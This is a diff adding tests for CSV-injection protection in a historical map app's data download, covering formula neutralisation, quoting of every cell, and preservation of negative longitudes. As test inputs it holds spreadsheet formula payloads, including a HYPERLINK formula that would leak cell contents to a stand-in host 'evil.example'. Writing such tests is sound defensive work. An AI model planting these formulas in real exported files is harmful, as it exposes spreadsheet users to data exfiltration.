@@ -3,14 +3,19 @@
 from __future__ import annotations
 
 import csv
+import functools
 import io
 import json
 import re
+from dataclasses import replace
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from mapapp.download import CSV_COLUMNS, file_stem, window_csv, window_events, window_geojson, window_summary
+from mapapp.download import CSV_COLUMNS, csv_cell, file_stem, window_csv, window_events, window_geojson, window_summary
 from mapapp.mapview import Dataset, load_dataset
+from mapapp.model import Event, Place
 from mapapp.viewstate import MapState
 
 
@@ -84,3 +89,110 @@ def test_summary_names_the_period_and_counts_what_a_download_holds(ds: Dataset, 
 ])
 def test_file_stem_names_the_window(state: MapState, stem: str) -> None:
     assert file_stem(state) == stem
+
+
+# ---------------------------------------------------------------- CSV injection (issue 9)
+
+#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_plain_number(cell: str) -> bool:
+    """The test's own idea of a number a spreadsheet reads as a number: float() takes it, and it is made only
+    of digits, a sign, a point and an exponent (no ``inf``, ``nan``, ``1_000`` or spaces)."""
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return set(cell.lower()) <= set("0123456789+-.e")
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ('=HYPERLINK("http://evil.example","Click")', '\'=HYPERLINK("http://evil.example","Click")'),
+    ("=1+1", "'=1+1"),
+    ("+7 (495) 123", "'+7 (495) 123"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("-", "'-"),
+    ("- a list item", "'- a list item"),
+    ("-1+1", "'-1+1"),  # a sum, which a spreadsheet evaluates: not a plain number
+    ("--5", "'--5"),
+    ("-inf", "'-inf"),
+    ("-1e", "'-1e"),
+    ("-99.13", "-99.13"),  # a negative longitude stays a number
+    ("-2e3", "-2e3"),  # an exponent is still a plain number
+    ("+5", "+5"),
+    ("-.5", "-.5"),
+    ("-5.", "-5."),
+    (-99.1614, "-99.1614"),
+    (-1e-05, "-1e-05"),  # how Python writes a longitude of -0.00001
+    ("Moscow", "Moscow"),
+    ("", ""),
+    ("'=already text", "'=already text"),
+    (" =1", " =1"),  # a leading space makes it text already; not on OWASP's list
+    ("−5", "−5"),  # U+2212 MINUS SIGN is not '-'
+    ("a=b", "a=b"),
+    (True, "True"),
+], ids=repr)
+def test_csv_cell_neutralises_formulas_but_keeps_numbers(value: object, cell: str) -> None:
+    assert csv_cell(value) == cell
+
+
+@functools.cache
+def kirov_assassination() -> tuple[Event, Place]:
+    """A real event and its main place (read once; not a fixture, so a failing example's report stays short)."""
+    ds = load_dataset()
+    event = next(e for e in ds.events if e.id == "kirov_assassination")
+    return event, ds.places[event.place_ids[0]]
+
+
+def hostile_dataset(**texts: str) -> Dataset:
+    """One real event at one real place, with ``texts`` put into the event (title_en, summary_en, note,
+    citation_en) and ``place`` into the place's English name."""
+    event, place = kirov_assassination()
+    place = replace(place, name_en=texts.pop("place", "Smolny"))
+    event = replace(event, place_ids=(place.id,), coordinates=event.coordinates[:1], **texts)
+    return Dataset({place.id: place}, (event,), {}, None)
+
+
+@pytest.mark.parametrize("field", ["title_en", "summary_en", "note", "citation_en", "place"])
+def test_a_formula_in_the_data_reaches_the_csv_as_text(field: str) -> None:
+    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Read more")'
+    rows = list(csv.DictReader(io.StringIO(window_csv(hostile_dataset(**{field: payload}), MapState()))))
+    column = {"title_en": "title", "summary_en": "summary", "note": "note", "citation_en": "citation",
+              "place": "places"}[field]
+    assert len(rows) == 1
+    assert rows[0][column] == "'" + payload
+
+
+def test_every_cell_is_quoted_so_a_semicolon_cannot_start_a_new_cell() -> None:
+    text = window_csv(hostile_dataset(title_en="Kirov;=1+1"), MapState())
+    header, row = text.splitlines()
+    assert header.startswith('"id","date","start",')
+    assert '"Kirov;=1+1"' in row.split(",")
+    assert row.startswith('"kirov_assassination",')
+
+
+def test_negative_longitudes_stay_numbers_in_the_real_download(ds: Dataset) -> None:
+    rows = list(csv.DictReader(io.StringIO(window_csv(ds, MapState()))))
+    west = [r for r in rows if r["longitude"].startswith("-")]
+    assert west, "the real data has places west of Greenwich (Mexico City)"
+    assert all(is_plain_number(r["longitude"]) and float(r["longitude"]) < 0 for r in west)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.dictionaries(st.sampled_from(["title_en", "summary_en", "note", "citation_en", "place"]),
+                       st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\"',;.0123456789eE aZя")), max_size=12)
+                       | st.text(max_size=12), min_size=1))
+def test_no_cell_starts_a_formula(texts: dict[str, str]) -> None:
+    text = window_csv(hostile_dataset(**texts), MapState())
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == 2
+    for cell in rows[1]:
+        assert not cell.startswith(DANGEROUS) or is_plain_number(cell), cell
+    parsed = dict(zip(rows[0], rows[1]))
+    for field, column in [("title_en", "title"), ("summary_en", "summary"), ("note", "note"),
+                          ("citation_en", "citation"), ("place", "places")]:
+        if field in texts:  # the text survives: as it was, or behind one apostrophe
+            assert parsed[column] in (texts[field], "'" + texts[field])
